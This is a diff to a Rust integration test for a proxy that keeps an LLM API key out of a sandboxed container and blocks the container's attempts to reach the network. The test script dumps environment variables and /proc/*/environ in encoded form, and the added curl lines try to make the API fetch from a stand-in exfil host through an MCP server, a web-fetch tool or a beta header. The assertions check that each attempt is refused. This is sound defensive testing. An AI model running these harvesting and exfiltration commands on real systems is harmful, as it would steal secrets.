@@ -689,7 +689,11 @@ fn the_container_holds_no_key_and_the_llm_gets_it_from_the_proxy() {
                 tr '\\0' ' ' < /proc/1/cmdline; echo; \
                 git config --list --show-origin 2>&1; \
                 (env; cat /proc/*/environ) 2>/dev/null | base64 -w0; echo; \
-                (env; cat /proc/*/environ) 2>/dev/null | rev; echo hunted";
+                (env; cat /proc/*/environ) 2>/dev/null | rev; \
+                curl -s --unix-socket /run/lackey/proxy.sock -X POST http://proxy/anthropic/v1/messages -d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[],\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://exfil.example/\"}]}'; echo; \
+                curl -s --unix-socket /run/lackey/proxy.sock -X POST http://proxy/anthropic/v1/messages -d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[],\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}'; echo; \
+                curl -s --unix-socket /run/lackey/proxy.sock -X POST http://proxy/anthropic/v1/messages -H 'anthropic-beta: mcp-client-2025-04-04' -d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[]}'; echo; \
+                echo hunted";
     let llm = FakeLlm::start(
         KEY,
         vec![
@@ -733,6 +737,29 @@ fn the_container_holds_no_key_and_the_llm_gets_it_from_the_proxy() {
     );
     for r in &received {
         assert_no_canary("a request to the LLM", &String::from_utf8_lossy(&r.raw));
+    }
+    // The ways to make the API fetch a URL for the container (an MCP server, a server
+    // tool, a beta header) were refused by the proxy and never reached the LLM.
+    for refusal in [
+        "may not set `mcp_servers`",
+        "not the server tool `web_fetch_20250910`",
+        "`anthropic-beta` header is not allowed",
+    ] {
+        assert!(text.contains(refusal), "not refused: {refusal}: {text}");
+    }
+    for r in &received {
+        let body = &r.body;
+        assert!(
+            body.get("mcp_servers").is_none(),
+            "an MCP server reached the LLM"
+        );
+        assert!(
+            body["tools"]
+                .as_array()
+                .is_none_or(|t| t.iter().all(|t| t.get("type").is_none())),
+            "a server tool reached the LLM: {}",
+            body["tools"]
+        );
     }
     let dir = std::fs::read_dir(&artifacts)
         .unwrap()
